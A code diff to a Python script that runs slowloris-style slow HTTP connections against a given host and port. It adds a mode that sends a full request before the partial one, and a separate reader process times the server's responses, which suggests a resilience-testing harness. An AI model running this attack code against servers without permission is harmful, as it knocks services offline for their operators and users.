@@ -1,6 +1,7 @@
 """Slow connections and a reader beside them, each in a process of its own.
 
-    python slow_attack.py hold HOST PORT COUNT     until standard input ends
+    python slow_attack.py first HOST PORT COUNT    half a request on each, until standard input ends
+    python slow_attack.py next HOST PORT COUNT     the same after a whole one that was answered
     python slow_attack.py read HOST PORT COUNT     prints JSON: status and seconds of each
 
 A reader that shares its process with the attackers measures them and not the server.
@@ -23,17 +24,20 @@ EVERY_SECONDS = 3.0
 PAUSE_SECONDS = 0.02
 """How long a reader waits between two answers."""
 
+HALF = b"GET / HTTP/1.1\r\nX-"
+WHOLE = b"GET /robots.txt HTTP/1.1\r\nHost: here\r\n\r\n"
+
 Address = tuple[str, int]
 
 
 @contextmanager
-def attack(address: Address, count: int, processes: int = 2) -> Iterator[None]:
+def attack(address: Address, count: int, processes: int = 2, role: str = "first") -> Iterator[None]:
     """Hold ``count`` connections open in processes of the lowest priority while the body runs.
 
-    The body begins when each has been opened once.
+    ``role``: whether each is slow with its ``first`` request or with the ``next``. The body begins when each has been opened once.
     """
     share = count // processes
-    running = [_start("hold", address, share) for _ in range(processes)]
+    running = [_start(role, address, share) for _ in range(processes)]
     try:
         for process in running:
             assert process.stdout is not None
@@ -62,8 +66,9 @@ def _start(role: str, address: Address, count: int) -> subprocess.Popen[bytes]:
 class Holder:
     """So many connections, each of which sends half a request a byte at a time."""
 
-    def __init__(self, address: Address, count: int) -> None:
-        self.address = address
+    def __init__(self, address: Address, count: int, begin: bytes) -> None:
+        """``begin``: what each sends at first."""
+        self.address, self.begin = address, begin
         self.selector = selectors.DefaultSelector()
         self.slots: list[socket.socket | None] = [None] * count
         self.begun = bytearray(count)  # 1 once the first bytes have been sent
@@ -100,7 +105,7 @@ class Holder:
         one = self.slots[slot]
         if one is not None:
             with suppress(OSError):
-                one.send(b"a" if self.begun[slot] else b"GET / HTTP/1.1\r\nX-")
+                one.send(b"a" if self.begun[slot] else self.begin)
                 self.begun[slot] = 1
 
     def _look(self, slot: int) -> None:
@@ -138,11 +143,11 @@ def read(address: Address, count: int) -> list[tuple[int, float]]:
 def main() -> None:
     """Play one role until it ends."""
     role, host, port, count = sys.argv[1:]
-    if role == "hold":
-        os.nice(19)
-        Holder((host, int(port)), int(count)).run()
-    else:
+    if role == "read":
         print(json.dumps(read((host, int(port)), int(count))))
+    else:
+        os.nice(19)
+        Holder((host, int(port)), int(count), HALF if role == "first" else WHOLE + HALF).run()
 
 
 if __name__ == "__main__":
